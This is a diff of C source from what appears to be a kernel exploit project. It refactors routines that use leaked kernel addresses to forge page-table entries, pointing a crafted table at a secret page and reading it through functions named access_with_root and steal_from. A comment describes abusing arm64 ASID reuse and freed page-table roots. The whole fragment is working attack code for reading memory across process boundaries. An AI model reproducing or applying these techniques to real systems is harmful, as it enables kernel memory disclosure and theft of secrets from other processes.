@@ -11,8 +11,7 @@
  *  - mm->context.id on arm64, the ASID: one that is equal to another process's
  *    lets the CPU use that process's TLB entries for as long as they last. No
  *    page table is changed, and nothing that memory permissions can do helps.
- *  - A root whose process is dying, or gone: once it is freed it is empty. When
- *    it is handed out again it is some other table, as in mm-pgd-level.
+ *  - A root whose process is dying, or gone: root-freed, in pool.c.
  */
 #include "attack.h"
 
@@ -21,13 +20,6 @@
 static u64 mm_pgd(void)
 {
 	return leak.mm + lookup("mm_struct.pgd");
-}
-
-/* An address whose entry in the root is free. */
-static char *free_address(unsigned int index)
-{
-	return (char *)((u64)index << (__builtin_ctzl(PAGE_SIZE) +
-				       entry_bits() * (leak.levels - 1)));
 }
 
 static int memory_fd = -1;
@@ -155,7 +147,7 @@ static int own_root_forked(void)
  */
 static int other_level(void)
 {
-	unsigned int nr = 1U << entry_bits(), index = 3, level, i, j;
+	unsigned int nr = 1U << entry_bits(), index = 3, i, j;
 	char *range = table_range(0), *target = map_at(free_address(index), PAGE_SIZE, MAP_SHARED);
 	u64 *table = (u64 *)(range + index * PAGE_SIZE), entry;
 
@@ -167,14 +159,7 @@ static int other_level(void)
 	}
 	memset(table, 0, PAGE_SIZE);
 	flush();
-	for (level = leak.levels - 1; level > 1; level--) {
-		u64 *lower = map_at(NULL, PAGE_SIZE, MAP_SHARED);
-
-		memset(lower, 0, PAGE_SIZE);
-		table[entry_index(target, level)] = link_to(address_of(lower), level);
-		table = lower;
-	}
-	table[entry_index(target, 1)] = leaf(leak.secret);
+	map_secret(table, target);
 
 	access_with_root(table_of(range, 1), target, false);
 	return steal_from(shared->text);
